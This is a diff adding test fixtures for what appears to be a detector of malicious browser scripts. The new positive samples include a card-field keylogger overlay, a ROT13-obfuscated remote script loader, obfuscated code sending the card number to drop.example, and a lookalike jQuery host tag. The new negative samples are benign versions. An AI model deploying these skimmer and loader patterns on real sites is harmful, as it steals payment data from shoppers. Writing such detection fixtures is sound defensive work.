@@ -18,6 +18,54 @@ internal static class RuleFixtures
                 document.getElementById(id).addEventListener('input', function (e) { stolenData[id] = e.target.value; fetch(exfilUrl, { method: 'POST', body: JSON.stringify(stolenData) }); });
             });
             """),
+        // A collector that says so in what it shows, minified around it.
+        ("names-itself", """
+            !function(){const p=document.createElement("div");p.id="keylogger-box";const s={cc_number:"",cc_exp:"",cc_cvc:""};
+            function show(){p.innerHTML=`
+                <div style="font-weight: bold; color: #f66; border-bottom: 1px solid #333; padding-bottom: 8px; margin-bottom: 10px; text-transform: uppercase; letter-spacing: 1px;">CAPTURED DATA:</div>
+                <div style="font-size: 11px; line-height: 1.3; color: #fff; background: rgba(255, 255, 255, 0.05); padding: 6px; border-left: 3px solid #0f0; border-radius: 4px;">Card: ${s.cc_number||"none"} ${s.cc_exp} ${s.cc_cvc}</div>`}
+            ["cc_number","cc_exp","cc_cvc"].forEach(n=>{document.querySelector(`[name=${n}]`).addEventListener("input",e=>{s[n]=e.target.value;show()})});document.body.appendChild(p)}();
+            """),
+        // A list that is decoded in place, element by element, and says which browsers are wanted.
+        ("hidden-script-loader", """
+            (function () {
+                function t(s) { return s.replace(/[a-z]/gi, function (c) { return String.fromCharCode(c.charCodeAt(0) + (c.toLowerCase() < 'n' ? 13 : -13)); }); }
+                var w = ['tzv-aqp//:fcggu', '/g/rycznkr.', 'trcw.qnby', 'gcvepf', 'kbsrevS', '1=gv-arrf', 'GA fjbqavJ'];
+                for (var z = 0; z < w.length; z++) { var s = t(w[z] + ''); w[z] = s.split('').reverse().join(''); }
+                var agent = navigator.userAgent;
+                if (new RegExp(w[4]).test(agent) && new RegExp(w[6]).test(agent) && document.cookie.indexOf(w[5]) < 0) {
+                    var e = document.createElement(w[3]);
+                    e.src = w[0] + w[1] + w[2];
+                    document.documentElement.appendChild(e);
+                    document.cookie = w[5];
+                }
+            })();
+            """),
+        // One obfuscation over another: the second list is made of what the first gives, and is turned under names that the first hides.
+        ("card-fields-sent", """
+            function outer(i) { i = i - 0x20; var l = list(); return l[i]; }
+            function list() { var a = ['cc-num', 'ber', 'https://drop', '.example/i', 'getElem', 'entById', 'POST', 'open', 'send', 'value', 'push', 'shift', 'XX', 'submit', 'addEvent', 'Listener']; list = function () { return a; }; return list(); }
+            var words = [outer(0x28), outer(0x29), outer(0x2d), outer(0x2e)+outer(0x2f), outer(0x20)+outer(0x21), outer(0x22)+outer(0x23), outer(0x24)+outer(0x25), outer(0x26), outer(0x27)];
+            (function (l, n) { var turn = function (m) { while (--m) { l[outer(0x2a)](l[outer(0x2b)]()); } }; turn(++n); }(words, 0x4));
+            var look = function (i, k) { i = i - 0x0; var w = words[i]; return w; };
+            var run = { a: function (f, x) { return f(x); }, b: function (x, y) { return x + y; } };
+            document[run.a(look, '0x8')](look('0x7'), function () {
+                var order = '1|2|0'.split('|'), step = 0;
+                while (true) {
+                    switch (order[step++]) {
+                        case '0': x.send(); continue;
+                        case '1': var x = new XMLHttpRequest(), number = document[run.a(look, '0x2')](run.a(look, '0x0')); continue;
+                        case '2': x[run.a(look, '0x4')](look('0x3'), run.b(run.a(look, '0x1'), '?n=' + number[look('0x6')])); continue;
+                    }
+                    break;
+                }
+            });
+            """),
+        // A page with a tag that is not its own, from a host that sounds like a library.
+        ("lookalike-loader", """
+            <!DOCTYPE html><html><head><script src="https://shop.example/js/prototype.js"></script>
+            <script src="https://jquery-css.top/lib/main.js"></script></head><body><script>document.title = 'Shop';</script></body></html>
+            """),
         ("coin-miner", """
             var job = null, total = 0, pool = new WebSocket('wss://pool-gate.example/in'), hasher = new Worker('cryptonight-worker.js');
             pool.onmessage = function (m) { job = JSON.parse(m.data); hasher.postMessage({ blob: job.blob, target: job.target, job_id: job.job_id }); };
@@ -106,6 +154,16 @@ internal static class RuleFixtures
         ("wallet-drainer", "export async function send(to, value) { var from = (await ethereum.request({ method: 'eth_requestAccounts' }))[0]; return ethereum.request({ method: 'eth_sendTransaction', params: [{ from: from, to: to, value: value }] }); }"),
         // A shop sends visitors to their own country's site.
         ("hidden-redirect", "var lang = navigator.language; if (lang.indexOf('de') === 0 && document.cookie.indexOf('stay=') < 0) location.href = 'https://de.shop.example/';"),
+        // A page with libraries from where they come from.
+        ("lookalike-loader", """
+            <!DOCTYPE html><html><head><script src="https://code.jquery.com/jquery-3.7.1.min.js"></script><script src="//cdn.jsdelivr.net/npm/vue"></script>
+            <script src="https://static.shop.example/app.js"></script></head><body><script>document.title = 'Shop';</script></body></html>
+            """),
+        // A list that is tidied in place.
+        ("hidden-script-loader", """
+            var names = [' red', 'green ', 'blue']; for (var i = 0; i < names.length; i++) { names[i] = names[i].split('').join('').trim(); }
+            var s = document.createElement('script'); s.src = '/js/' + names[0] + '.js'; document.head.appendChild(s);
+            """),
         // An analytics vendor's snippet, loaded everywhere.
         ("hidden-script-loader", "(function (d) { var s = d.createElement('script'); s.src = 'https://cdn.stats.example/s.js'; s.async = 1; d.head.appendChild(s); })(document);"),
         // A site asks for a newer browser and links to the makers.
